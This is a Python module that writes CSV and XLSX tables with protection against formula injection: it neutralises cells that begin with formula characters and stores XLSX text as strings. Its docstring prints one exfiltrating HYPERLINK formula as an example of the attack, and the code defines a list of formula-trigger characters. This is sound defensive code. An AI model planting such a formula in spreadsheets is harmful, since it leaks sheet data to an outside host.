"""Writing tables people open in a spreadsheet: CSV and XLSX without formula injection.

Every CSV or XLSX that kreislauf writes from user data goes through this module (the reader
side is :mod:`kreislauf.tables`). A text cell that a spreadsheet would take for a formula
(it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) gets a leading
apostrophe, so Excel, LibreOffice and Google Sheets show it as text and never run it
(``=HYPERLINK("http://…"&A1,"Click")`` exfiltrates the sheet when clicked). Numbers stay
numbers: a ``float`` ``-2.5`` and a text cell that is a plain number (``-2``, ``3.5``) are
not touched, since no spreadsheet reads them as a formula. In XLSX every text cell is
written with data type ``s`` (a string), never ``f`` (a formula).

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from numbers import Number

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING

#: Characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number as text: a spreadsheet reads it as that number, not a formula.
_PLAIN_NUMBER = re.compile(r"-?(?:0|[1-9]\d{0,14})(?:\.\d+)?")

Cell = object


def neutral_text(text: str) -> str:
    """``text`` with a leading ``'`` if a spreadsheet would read it as a formula.

    A plain number (``-2``, ``-0.5``) is returned unchanged: it stays a number.
    """
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def neutral_cell(value: Cell) -> Cell:
    """A cell ready to write: text through :func:`neutral_text`, blanks as ``None``.

    Numbers (``int``, ``float``, numpy numbers) are returned as they are; ``NaN`` and
    ``None`` become ``None`` (an empty cell); anything else is written as its text.
    """
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, Number):
        return None if value != value else value  # NaN of any float type
    if isinstance(value, str):
        return neutral_text(value)
    return neutral_text(str(value))


def csv_text(header: Sequence[Cell], rows: Iterable[Sequence[Cell]]) -> str:
    """A comma-separated table (decimal point, ``\\r\\n`` line ends, RFC 4180 quoting)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in (header, *rows):
        writer.writerow(["" if c is None else c for c in map(neutral_cell, row)])
    return buffer.getvalue()


def _xlsx_value(value: Cell, *, header: bool = False) -> Cell:
    cell = neutral_cell(value)
    if not isinstance(cell, str):
        return cell
    if not header and _PLAIN_NUMBER.fullmatch(cell):
        return float(cell) if "." in cell else int(cell)  # a number given as text
    # control characters are not allowed in XLSX text (openpyxl would refuse the cell)
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", cell)


def xlsx_bytes(header: Sequence[Cell], rows: Iterable[Sequence[Cell]], *, sheet: str) -> bytes:
    """An XLSX workbook with one sheet ``sheet``: a header row, then ``rows``.

    Text cells are neutralised and stored as strings (data type ``s``); numbers and text
    that is a plain number are stored as numbers (header cells stay text); blanks stay
    empty; control characters that XLSX cannot hold become U+FFFD.
    """
    book = Workbook()
    worksheet = book.active
    assert worksheet is not None  # a new workbook has one sheet
    worksheet.title = sheet
    for line, row in enumerate((header, *rows), start=1):
        for column, value in enumerate(row, start=1):
            cell = worksheet.cell(row=line, column=column)
            cell.value = _xlsx_value(value, header=line == 1)  # type: ignore[assignment]
            if isinstance(cell.value, str):
                cell.data_type = TYPE_STRING  # openpyxl guesses 'f' for text starting "="
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
